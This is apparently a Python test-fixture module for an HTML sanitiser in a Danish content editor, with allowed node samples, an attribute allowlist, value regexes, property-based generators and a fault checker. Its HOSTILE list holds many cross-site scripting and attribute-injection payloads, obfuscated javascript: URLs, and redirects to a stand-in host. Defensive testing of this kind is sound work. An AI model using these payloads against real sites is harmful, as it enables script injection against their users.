"""Bodies for the tests of the sanitiser and the expansion: hostile ones, and each node we allow."""

import re
from html.parser import HTMLParser

from hypothesis import strategies as st

# Every node a body may hold, written as the editor writes it.
NODES = {
    "paragraph": "<p>Kl. 7.00 gik strømmen.</p>",
    "marks": "<p><strong>fed</strong> <em>kursiv</em> <code>ls</code> <sub>2</sub> <sup>3</sup> "
    "<s>væk</s></p>",
    "crosshead": "<h2>Blækket slipper op</h2><h3>Og papiret</h3>",
    "bullets": "<ul><li><p>Et</p></li><li><p>To</p></li></ul>",
    "numbers": "<ol><li><p>Et</p></li></ol>",
    "quotation": "<blockquote><p>»Sådan.«</p></blockquote>",
    "link": '<p><a href="https://vagten.example/skema" title="Skemaet">skema</a></p>',
    "mail": '<p><a href="mailto:vagt@oppetid.example">skriv</a></p>',
    "own page": '<p><a href="/emne/drift/">drift</a></p>',
    "break": "<p>a<br>b</p><hr>",
    "code": '<pre><code class="language-bash">ls &lt; fil &amp;&amp; echo "hej"</code></pre>',
    "plain code": "<pre><code>x = 1</code></pre>",
    "table": "<table><tbody><tr><th><p>Tid</p></th></tr><tr><td><p>Kl. 8</p></td></tr></tbody>"
    "</table>",
    "merged cells": '<table><tbody><tr><td colspan="2" rowspan="1"><p>1</p></td></tr></tbody>'
    "</table>",
    "factbox": '<aside data-node="factbox"><h3>Fakta</h3><p>Tal.</p><ul><li><p>1</p></li></ul>'
    "<footer>Vagten</footer></aside>",
    "older factbox": '<aside data-node="factbox"><p>Tal.</p><p>Kilde: Vagten</p></aside>',
    "pull quote": '<blockquote data-node="pullquote"><p>»Det gik.«</p><footer>Birgit, chef'
    "</footer></blockquote>",
    "older pull quote": '<blockquote data-node="pullquote"><p>»Det gik.«</p><p>Birgit, chef</p>'
    "</blockquote>",
    "picture": '<figure data-node="picture" data-picture="7"></figure>',
    "picture with caption": '<figure data-node="picture" data-picture="7"><figcaption>Kælderen.'
    "</figcaption></figure>",
    "picture with its own alt": '<figure data-node="picture" data-picture="7" data-alt="Et skab">'
    "</figure>",
    "related": '<p data-node="related" data-item="12"></p>',
    "video": '<p data-node="embed" data-url="https://www.youtube.com/watch?v=abc-123_XYZ">Kranen '
    "i drift</p>",
    "post": '<p data-node="embed" data-url="https://bsky.app/profile/vagt.example/post/3kabcdefghij"'
    "></p>",
    "link card": '<p data-node="embed" data-url="https://rapport.example/nedbrud?side=2"></p>',
    "terminal": '<pre data-node="terminal"><code>$ uptime\n 07:04 up 211 days\n</code></pre>',
    "cve": '<aside data-node="cve" data-cve="CVE-2026-99999" data-product="Kajstyring" '
    'data-severity="kritisk" data-affected="4.0 til 4.2" data-fixed="4.3" '
    'data-url="https://kaj.example/raad"></aside>',
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//ond.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1) onmouseover='x()'>hej</p>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#8;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" class="x">x</a>',
    '<a href="https://ok.example" target="_blank" rel="follow me">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(//ond.example)">x</p>',
    '<iframe src="//ond.example" srcdoc="<script>1</script>"></iframe>',
    '<object data="x"></object><embed src="x"><applet code="x"></applet>',
    '<img src="x" srcset="//ond.example 2x"><picture><source srcset="x"></picture>',
    "<form action=//ond.example><input name=q><button formaction='javascript:1'>x</button></form>",
    '<base href="//ond.example"><meta http-equiv=refresh content="0;url=//ond.example"><link>',
    "<template><script>1</script></template><noscript><p title='</noscript><script>1</script>'>",
    '<p title="--><script>alert(1)</script>">x</p>',
    "<!--[if IE]><script>1</script><![endif]--><!-- > -->",
    "<![CDATA[<script>alert(1)</script>]]><?xml version='1.0'?>",
    "<textarea></textarea><title><script>1</script></title><xmp><script>1</script></xmp>",
    "<pre><code class='language-bash evil'>x</code></pre><code class=other>y</code>",
    "<table><tr><td onclick=1 style=x><p>a<table><td><script>1</script>",
    '<aside data-node="evil" class="x" id="login"><p>x</p></aside>',
    '<p data-node="factbox">x</p><figure data-node="related" data-picture="javascript:1"></figure>',
    '<blockquote data-node="pullquote x" cite="javascript:1"><p>x</p></blockquote>',
    '<p data-node="related" data-item="1 onload=alert(1)" data-other="x"></p>',
    '<p data-node="embed" data-url="javascript:alert(1)">x</p>',
    '<p data-node="embed" data-url="https://ond.example/&quot;onload=alert(1)">x</p>',
    '<p data-node="embed" data-url="https://youtu.be/abc-123_XYZ&quot;><script>">x</p>',
    '<p data-node="embed" data-url="http://127.0.0.1:8000/admin/" data-frame="//ond.example"></p>',
    '<p data-node="embed" data-url="https://vagt:kode@ond.example/"></p>',
    '<aside data-node="cve" data-cve="CVE-2026-1 onclick" data-severity="grim" data-fixed="<b>1">'
    "<p>x</p></aside>",
    '<aside data-node="cve" data-cve="CVE-2026-99999" data-url="javascript:alert(1)"></aside>',
    '<pre data-node="terminal" class="x" onclick="x"><code><b>$ rm</b><script>1</script></code>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt; <p>og tekst</p> &lt;script&gt;alert(2)&lt;/script&gt;",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<div><p>i en div</p></div><span>og en span</span><font color=red>x</font>",
    "<p id=indhold name=x tabindex=-1 autofocus onfocus=alert(1) contenteditable>x</p>",
    "\x00<scr\x00ipt>alert(1)</script><p>\x0b\x1f\ufffe</p>",
]

ALLOWED = {
    "a": {"href", "title", "rel"},
    "aside": {"data-node", "data-cve", "data-product", "data-severity", "data-affected"}
    | {"data-fixed", "data-url"},
    "blockquote": {"data-node"},
    "br": set(),
    "code": {"class"},
    "em": set(),
    "figcaption": set(),
    "figure": {"data-node", "data-picture", "data-alt"},
    "footer": set(),
    "h2": set(),
    "h3": set(),
    "hr": set(),
    "li": set(),
    "ol": {"start", "type"},
    "p": {"data-node", "data-item", "data-url"},
    "pre": {"data-node"},
    "s": set(),
    "strong": set(),
    "sub": set(),
    "sup": set(),
    "table": set(),
    "tbody": set(),
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "thead": set(),
    "tr": set(),
    "ul": set(),
}
NODE_VALUES = {
    "aside": {"factbox", "cve"},
    "blockquote": {"pullquote"},
    "figure": {"picture"},
    "p": {"related", "embed"},
    "pre": {"terminal"},
}
# What each attribute of ours may hold, said once more and otherwise than the code says it.
VALUES = {
    "data-picture": r"\d{1,18}",
    "data-item": r"\d{1,18}",
    "data-alt": r"\S(.{0,298}\S)?",
    "data-url": r"https://[\w.-]+\.\w[\w-]+(:\d+)?[/?#][^\s<>\"'`\\]*",
    "data-cve": r"CVE-\d{4}-\d{4,}",
    "data-severity": "kritisk|høj|middel|lav",
    "data-product": r"\S(.{0,118}\S)?",
    "data-affected": r"\S(.{0,198}\S)?",
    "data-fixed": r"\S(.{0,198}\S)?",
}

pieces = st.one_of(
    st.text(max_size=30),
    st.sampled_from([*NODES.values(), *HOSTILE]),
    st.builds(
        "<{} {}={}>".format,
        st.sampled_from([*ALLOWED, "script", "style", "svg", "math", "iframe", "img", "template"]),
        st.sampled_from(["href", "onclick", "style", "class", "data-node", "title", *VALUES]),
        st.one_of(
            st.sampled_from(
                ["javascript:alert(1)", "'language-bash'", '"factbox"', "'<p>'", '"&quot;>"']
            ),
            st.sampled_from(["embed", "cve", "terminal", "7", "https://youtu.be/abc-123_XYZ"]),
            st.text(max_size=20).map("'https://kaj.example/{}'".format),
        ),
    ),
    st.builds("</{}>".format, st.sampled_from([*ALLOWED, "script", "svg", "style"])),
    st.sampled_from(["<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#60;", '"', "'", ">", "<", "</"]),
)
anything = st.lists(pieces, max_size=8).map("".join)


class Reader(HTMLParser):
    """What a browser would act on in a piece of HTML: its tags with their attributes."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.seen = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.seen.append(("!--", {}))

    def handle_decl(self, decl):
        self.seen.append(("!", {}))

    def unknown_decl(self, data):
        self.seen.append(("![", {}))

    def handle_pi(self, data):
        self.seen.append(("?", {}))


def faults(html, allowed=ALLOWED, node_values=NODE_VALUES, classes=()):
    """What stands in `html` that no reader may be served; `classes` are the beginnings allowed."""
    found = []
    for tag, attributes in Reader(html).seen:
        if tag not in allowed:
            found.append(tag)
            continue
        found += [f"{tag} {name}" for name in attributes if name not in allowed[tag]]
        found += [
            f"{name}={value}"
            for name, value in attributes.items()
            if name in VALUES and not re.fullmatch(VALUES[name], value or "")
        ]
        node = attributes.get("data-node")
        if node is not None and node not in node_values.get(tag, ()):
            found.append(f"{tag} data-node={node}")
        scheme, colon, _ = (attributes.get("href") or "").partition(":")
        if colon and scheme not in {"http", "https", "mailto"} and "/" not in scheme:
            found.append(f"href {scheme}:")
        if not (attributes.get("class") or "language-").startswith(("language-", *classes)):
            found.append(f"class {attributes['class']}")
    return found
